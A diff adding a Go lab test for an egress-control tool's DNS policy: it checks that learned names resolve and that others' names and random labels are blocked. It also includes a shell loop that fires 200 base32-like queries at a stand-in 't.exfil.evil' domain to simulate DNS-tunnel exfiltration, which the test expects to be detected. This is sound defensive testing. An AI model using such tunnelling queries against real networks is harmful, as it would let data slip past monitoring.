@@ -1,0 +1,108 @@
+package main
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/egresskit/egress/internal/lab"
+)
+
+// TestDNSPolicyCommands is issue 18's acceptance on a lab, with the real
+// tools: learn what two users ask (a search domain included), apply the
+// DNS policy in enforce, and check that learned names resolve, the other
+// user's names, a random label and a 200-query tunnel-like burst are
+// stopped, that denied and reconcile show them, and that status says so
+// loudly when the policy is gone.
+func TestDNSPolicyCommands(t *testing.T) {
+	lab.Require(t, "dig", "dnsmasq", "getent")
+	pair := lab.NewPair(t)
+	cg := lab.NewCgroup(t)
+	lab.StartDNS(t, pair.Server, []string{lab.ServerIP4},
+		lab.DNSRecord{Name: "api.example.lab", IPs: []string{"10.77.0.80"}},
+		lab.DNSRecord{Name: "x.cdn.lab", IPs: []string{"10.77.0.81"}},
+		lab.DNSRecord{Name: "www.lab", IPs: []string{"10.77.0.82"}})
+	dir := t.TempDir()
+	resolv := "/etc/netns/" + pair.Client.Name + "/resolv.conf"
+	if err := os.MkdirAll(filepath.Dir(resolv), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	// ndots:5: glibc asks api.example.lab.corp.lab (NXDOMAIN) first.
+	if err := os.WriteFile(resolv, []byte("nameserver "+lab.ServerIP4+"\nsearch corp.lab\noptions ndots:5 timeout:1 attempts:2\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	conf := filepath.Join(dir, "config.yaml")
+	yaml := fmt.Sprintf("db: %s\nnetns: %s\nresolv_conf: %s\ndns_policy: enforce\ndns_allow:\n  - {name: \"*.cdn.lab\"}\n",
+		filepath.Join(dir, "baseline.db"), pair.Client.Name, resolv)
+	if err := os.WriteFile(conf, []byte(yaml), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	env := []string{"EGRESS_CONFIG=" + conf}
+	where := []string{"--cgroup", cg.Path, "--pin-dir", lab.NewBPFFS(t)}
+	alice := lab.As{UID: 1000, GID: 1000, Netns: pair.Client, Cgroup: cg}
+	bob := lab.As{UID: 1001, GID: 1001, Netns: pair.Client, Cgroup: cg}
+
+	// Before learning: nothing to enforce.
+	mustFail(t, enforceBin, env, []string{"store does not exist"}, append([]string{"dns-policy", "apply"}, where...)...)
+	learner, lerr := startLearner(t, env, "--cgroup", cg.Path, "--flush-interval", "200ms")
+	alice.MustRun(t, "getent", "ahosts", "api.example.lab")
+	bob.MustRun(t, "dig", "+short", "@"+lab.ServerIP4, "www.lab")
+	stopLearner(t, learner, lerr)
+
+	out := mustRun(t, enforceBin, env, append([]string{"dns-policy", "apply"}, where...)...)
+	if !strings.Contains(out, "dns policy enforce attached") || !strings.Contains(out, "1 dns_allow") {
+		t.Fatalf("apply: %s", out)
+	}
+	if out := mustRun(t, enforceBin, env, append([]string{"dns-policy", "status"}, where...)...); !strings.Contains(out, "attached in enforce") {
+		t.Errorf("status: %s", out)
+	}
+	watch, _, werr := start(t, env, enforceBin, append([]string{"dns-policy", "watch", "--flush", "100ms"}, where...)...)
+	lab.Await(t, "the watch", func() bool { return strings.Contains(werr.String(), "watching dns policy reports") })
+
+	// Learned, with the search domain's NXDOMAIN try: resolves.
+	if out := alice.MustRun(t, "getent", "ahosts", "api.example.lab"); !strings.Contains(out, "10.77.0.80") {
+		t.Errorf("alice's learned name: %q", out)
+	}
+	if got := strings.TrimSpace(bob.MustRun(t, "dig", "+short", "@"+lab.ServerIP4, "a.x.cdn.lab")); got != "" {
+		t.Logf("wildcard: %q", got) // dnsmasq has no a.x.cdn.lab: NXDOMAIN, but an answer
+	}
+	// Bob never asked for alice's name; a random label under a new domain.
+	if _, err := bob.Run("dig", "+time=1", "+tries=1", "@"+lab.ServerIP4, "api.example.lab"); err == nil {
+		t.Error("bob resolved alice's name")
+	}
+	if _, err := alice.Run("dig", "+time=1", "+tries=1", "@"+lab.ServerIP4, "q2fmzxr0.tunnel.evil"); err == nil {
+		t.Error("a random label resolved")
+	}
+	var names []string
+	for i := range 200 {
+		names = append(names, fmt.Sprintf("mzxw6ytboi%04dgm5qgcy3uebxgc.t.exfil.evil", i))
+	}
+	// One dig a name, all at once (each waits out its timeout after EPERM).
+	_, _ = alice.Run("sh", "-c", "for n in "+strings.Join(names, " ")+"; do dig +time=1 +tries=1 @"+lab.ServerIP4+" $n >/dev/null 2>&1 & done; wait")
+	lab.Await(t, "the burst's reports", func() bool {
+		return strings.Count(werr.String(), "t.exfil.evil") >= 200 && strings.Contains(werr.String(), "tunnelling signature")
+	})
+	_ = watch.Process.Signal(os.Interrupt)
+	_ = watch.Wait()
+
+	denied := mustRun(t, enforceBin, env, "denied")
+	for _, w := range []string{"q2fmzxr0.tunnel.evil", "t.exfil.evil (200 names", "TUNNELLING SIGNATURE", "1001", "example.lab"} {
+		if !strings.Contains(denied, w) {
+			t.Errorf("denied lacks %q:\n%s", w, denied)
+		}
+	}
+	rec := mustRun(t, enforceBin, env, "reconcile")
+	for _, w := range []string{"+ ", "q2fmzxr0.tunnel.evil", "not proposed: 200 names under t.exfil.evil"} {
+		if !strings.Contains(rec, w) {
+			t.Errorf("reconcile lacks %q:\n%s", w, rec)
+		}
+	}
+	if strings.Contains(rec, "mzxw6ytboi0001") {
+		t.Errorf("reconcile proposes the tunnel's names:\n%s", rec)
+	}
+
+	mustRun(t, enforceBin, env, append([]string{"dns-policy", "remove"}, where...)...)
+	mustFail(t, enforceBin, env, []string{"NOT checked"}, append([]string{"dns-policy", "status"}, where...)...)
+}
